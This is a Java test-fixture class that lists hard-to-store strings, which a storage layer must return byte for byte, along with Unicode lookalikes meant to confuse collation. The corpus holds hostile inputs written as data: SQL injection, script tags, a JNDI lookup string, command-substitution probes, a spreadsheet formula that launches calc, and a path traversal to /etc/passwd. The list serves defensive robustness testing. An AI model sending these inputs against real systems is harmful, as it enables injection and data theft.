package io.counterfoil.contract;

import java.util.List;

/** Texts that have broken storages: each is a valid name, description and identifier, and must come back byte for byte. */
final class HostileText {

    private static final String ROCKET = "\uD83D\uDE80";

    /** Each has at most 128 characters, in Unicode form C, without white space at its ends. */
    static final List<String> CORPUS = List.of(
            "'",
            "\"",
            "`",
            "\\",
            "\\'",
            "''",
            "%",
            "_",
            "!",
            "!%!_!!",
            "a\\",
            "Robert'); drop table account; --",
            "' or '1'='1",
            "1; select pg_sleep(10)",
            "/* comment */ -- # ;",
            "? ?1 :name @p1 $1 {ts '2026-01-01'}",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>&amp;&#x27;",
            "${jndi:ldap://example.org/a}",
            "${java.version} #{7*7} {{7*7}} %{7*7} $(id) `id`",
            "=cmd|' /C calc'!A0",
            "+1-2@SUM(A1:A9)",
            "a,b;c|d\u00a6e",
            "../../etc/passwd",
            "%00%0a%0d\\0\\n\\u0000",
            "null",
            "0",
            "-0",
            "1e309",
            "true",
            "0x27",
            "{\"a\":[1,null]}",
            "k=v&k2=v2+v3%20",
            ROCKET,
            ROCKET.repeat(64),
            "\uD83D\uDC69\uD83C\uDFFD",
            "\u00e9 q\u0323\u0301",
            "\u1E69 \u0219 \u0131 \u0130 \u00df \u1E9E \uFB01",
            "\u4E2D\u6587 \u0627\u0644\u0639 \u05D0\u05D1 \u0E01\u0E33 \uD55C\uAE00",
            "\uFF21\uFF22\uFF23 \u2160\u2161",
            "\uFFFD",
            "\uE000",
            "\u00a0inner\u2003blanks\u00a0");

    /** All are different, and a lenient collation considers them equal. */
    static final List<String> LOOKALIKES = List.of(
            "resume",
            "Resume",
            "RESUME",
            "r\u00e9sum\u00e9",
            "re\u0301sume\u0301",
            "resume\u00a0",
            "resume\u0301",
            "\uFF52esume",
            "r\u0435sume",
            "resum\u0117",
            "r\u00e8sum\u00e8",
            "resume\uD83D\uDE80",
            "resume\uD83D\uDE81");

    private HostileText() {}

    /** The longest text of so many characters, each of which takes four bytes in UTF-8. */
    static String longest(int codePoints) {
        return ROCKET.repeat(codePoints);
    }
}
